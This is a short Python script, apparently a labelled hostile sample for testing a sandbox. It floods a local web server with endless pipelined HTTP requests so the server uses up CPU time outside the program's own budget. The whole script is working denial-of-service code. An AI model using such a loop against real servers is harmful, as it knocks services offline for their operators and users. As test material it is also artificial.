# /// hostile
# attack = "The web server of its own network is made to work for ever, so that its time is not the program's."
# network = "demo"
# reason = "cpu"
# ///
if __file__ != "/box/main.py": raise SystemExit("runs in the sandbox only")
import socket

ask = b"GET /delay/0 HTTP/1.1\r\nHost: news.example\r\n\r\n" * 1000
while True:
    with socket.create_connection(("127.0.0.11", 80)) as one:
        one.sendall(ask)
        one.shutdown(socket.SHUT_WR)
        while one.recv(1 << 20):
            pass
